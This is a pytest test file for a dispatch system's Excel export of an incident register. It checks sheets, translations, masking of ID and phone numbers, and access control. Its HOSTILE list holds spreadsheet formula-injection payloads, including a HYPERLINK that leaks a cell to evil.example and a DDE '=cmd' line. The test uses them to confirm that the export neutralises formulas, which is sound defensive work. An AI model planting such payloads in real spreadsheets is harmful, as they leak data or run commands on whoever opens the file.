"""The incident register as a workbook: what command and leaders take away, personal data masked."""
from __future__ import annotations

from datetime import datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook

from dispatch.tables import NOT_IN_XML

from .support import incident_payload

CHEN = "310101195803121234"
PHONE = "13812345678"


def _workbook(client, query="", language="zh"):
    response = client.get(f"/api/incidents/export.xlsx{query}", headers={"Accept-Language": language})
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(BytesIO(response.data))


def _cells(sheet):
    return [[cell for cell in row] for row in sheet.iter_rows(min_row=2, values_only=True)]


@pytest.fixture
def register_with_people(duty):
    gate = duty.post("/api/incidents", json=incident_payload(title="Workers at the gate", level="I")).get_json()
    duty.post("/api/incidents", json=incident_payload(title="Odour complaint", level="IV"))
    response = duty.post(f"/api/incidents/{gate['id']}/representatives",
                         json={"name": "Chen Jianguo", "id_number": CHEN, "phone": PHONE, "note": "speaker"})
    assert response.status_code == 201
    units = {unit["code"]: unit["id"] for unit in duty.get("/api/units").get_json()["items"]}
    duty.post(f"/api/incidents/{gate['id']}/tasks", json={"unit_id": units["PSB"], "title": "Keep the road open",
                                                           "instructions": "Now", "priority": "urgent"})
    return gate


SHEETS = {"zh": ["事件", "信访代表", "任务"], "en": ["Incidents", "Representatives", "Tasks"]}
# What each language calls the gate incident's values and its task (GLOSSARY.md's words).
WORDS = {
    "zh": {"heading": "事件编号", "kind": "群体性事件", "category": "欠薪", "level": "Ⅰ级", "status": "已报告",
           "unit": "公安局", "priority": "紧急", "task_status": "已交办"},
    "en": {"heading": "Reference", "kind": "Mass incident", "category": "Wage arrears", "level": "Level I",
           "status": "Reported", "unit": "Public Security", "priority": "Urgent", "task_status": "Dispatched"},
}


@pytest.mark.parametrize("username", ["duty", "leader"])
@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_register_exports_incidents_representatives_masked_and_tasks(client_for, register_with_people,
                                                                         username, language):
    workbook = _workbook(client_for(username), language=language)
    words = WORDS[language]
    assert workbook.sheetnames == SHEETS[language]
    incidents_sheet, representatives_sheet, tasks_sheet = (workbook[name] for name in SHEETS[language])
    assert incidents_sheet["A1"].value == words["heading"]
    incidents = _cells(incidents_sheet)
    assert sorted(row[1] for row in incidents) == ["Odour complaint", "Workers at the gate"]
    gate = next(row for row in incidents if row[1] == "Workers at the gate")
    assert gate[0] == register_with_people["ref"] and gate[11] == 1  # one open task
    assert gate[2:6] == [words["kind"], words["category"], words["level"], words["status"]]
    # a real time, in the configured zone (Asia/Shanghai), to the second
    occurred = datetime.fromisoformat(incident_payload()["occurred_at"])  # given at +08:00, shown in Shanghai
    assert gate[9] == occurred.replace(tzinfo=None)
    assert incidents_sheet.cell(row=2, column=10).number_format == "yyyy-mm-dd hh:mm"
    [representative] = _cells(representatives_sheet)
    assert representative[:5] == [register_with_people["ref"], "Chen Jianguo", "3101**********1234",
                                  "138****5678", "speaker"]
    [task] = _cells(tasks_sheet)
    assert task[1] == words["unit"] and task[2] == "Keep the road open"
    assert task[3:5] == [words["priority"], words["task_status"]]
    assert isinstance(task[5], datetime) and task[5].microsecond == 0 and task[5].tzinfo is None
    everything = " ".join(str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row)
    assert CHEN not in everything and PHONE not in everything


def test_the_export_takes_the_lists_filters(duty, register_with_people):
    incidents = _cells(_workbook(duty, "?level=IV")["事件"])
    assert [row[1] for row in incidents] == ["Odour complaint"]


# Texts a petitioner's words, a paste from a chat window or a fuzzer may bring: control characters
# XML cannot carry, and the starts of a formula (a live HYPERLINK would leak the sheet on a click).
HOSTILE = [
    "Gate\x0bblocked\x1f again\x08", "\x01\x02\x03", "text\ufffeend\uffff",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0", "\t=1+1", "line one\nline two",
]


def test_hostile_texts_leave_the_workbook_whole_and_never_a_formula(duty, register_with_people):
    units = {unit["code"]: unit["id"] for unit in duty.get("/api/units").get_json()["items"]}
    for text in HOSTILE:
        incident = duty.post("/api/incidents", json=incident_payload(
            title=text, location=text, demands=text)).get_json()
        assert "id" in incident, incident
        task = duty.post(f"/api/incidents/{incident['id']}/tasks", json={
            "unit_id": units["HRSS"], "title": text, "instructions": text, "priority": "high"})
        assert task.status_code == 201, task.get_json()
    for language in ("zh", "en"):
        workbook = _workbook(duty, language=language)
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        for text in HOSTILE:
            kept = NOT_IN_XML.sub(" ", text)
            assert kept in texts, text  # the words themselves survive, as text
            assert NOT_IN_XML.search(kept) is None
        formula_like = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
        assert formula_like and all(cell.quotePrefix for cell in formula_like)


@pytest.mark.parametrize("username,status", [("psb", 403), ("admin", 403), (None, 401)])
def test_only_command_and_leaders_export_the_register(client_for, register_with_people, username, status):
    assert client_for(username).get("/api/incidents/export.xlsx").status_code == status
